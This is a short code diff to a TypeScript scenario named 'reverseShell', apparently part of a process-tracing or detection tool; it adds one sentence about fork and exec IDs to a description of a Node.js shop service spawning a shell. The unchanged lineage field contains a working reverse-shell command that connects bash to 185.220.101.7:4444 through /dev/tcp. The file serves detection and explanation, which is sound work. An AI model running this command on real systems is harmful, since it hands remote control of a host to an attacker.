@@ -8,6 +8,7 @@ export const reverseShell: Scenario = {
     'Node.js of shop/cart ran a shell command. bash forked, and the fork itself opened the connection to ' +
     '185.220.101.7:4444 (bash opens /dev/tcp before it calls exec), so the connect is on an exec_id that ' +
     'never had an exec. Then the same PID called exec: `bash -i` has ANOTHER exec_id with the same parent. ' +
+    'That is one process, forked and then `bash -i`, which made the connection: so it is told from either id. ' +
     'What was typed follows below it (readline uprobe). It ended with SIGHUP.',
   lineage: `
 sh -c "bash -c 'bash -i >& /dev/tcp/185.220.101.7/4444 0>&1; true'" · exit 0
